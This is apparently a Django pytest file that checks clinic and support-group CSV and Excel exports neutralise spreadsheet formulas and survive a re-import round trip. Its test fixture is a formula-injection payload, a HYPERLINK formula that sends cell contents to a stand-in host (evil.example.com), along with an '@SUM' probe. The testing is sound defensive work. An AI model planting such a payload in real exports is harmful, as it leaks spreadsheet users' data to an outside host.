"""Exports never hand a spreadsheet a live formula, in CSV or Excel, and a round trip still changes nothing."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from clinics.models import Clinic
from clinics.resources import ClinicResource
from support_groups.resources import SupportGroupResource
from tests.clinics.test_import import upload
from tests.factories import make_clinic, make_support_group

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example.com/?"&A1,"Click for details")'


def test_clinic_and_support_group_csv_exports_escape_formulas():
    make_clinic(title=FORMULA, phone="+44 20 7794 0500", city="@SUM(1+1)", latitude=51.5, longitude=-0.16)
    make_support_group(title=FORMULA)
    for resource in (ClinicResource(), SupportGroupResource()):
        dataset = resource.export()
        csv_text = dataset.csv
        assert f"'{FORMULA}".replace('"', '""') in csv_text
        assert f",{FORMULA}".replace('"', '""') not in csv_text
    clinic_row = ClinicResource().export().dict[0]
    assert clinic_row["phone"] == "'+44 20 7794 0500" and clinic_row["city"] == "'@SUM(1+1)"
    assert str(clinic_row["longitude"]).startswith("-0.16")  # numbers stay numbers


def test_the_excel_export_holds_the_formula_as_plain_text(superuser_client):
    make_clinic(title=FORMULA)
    response = superuser_client.post(
        reverse("admin:clinics_clinic_export"),
        {"format": "1", **{f"clinicresource_{f}": "on" for f in ClinicResource._meta.fields}},
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    titles = [cell for cell in sheet[2] if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert titles and all(cell.data_type == "s" and cell.value.startswith("'=") for cell in titles)


def test_exporting_an_escaped_title_and_importing_it_again_changes_nothing(superuser_client):
    make_clinic(title=FORMULA, phone="+44 20 7794 0500")
    exported = ClinicResource().export().csv.encode()
    result = upload(superuser_client, Clinic, exported).context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["skip"] == 1
    assert Clinic.objects.get().title == FORMULA
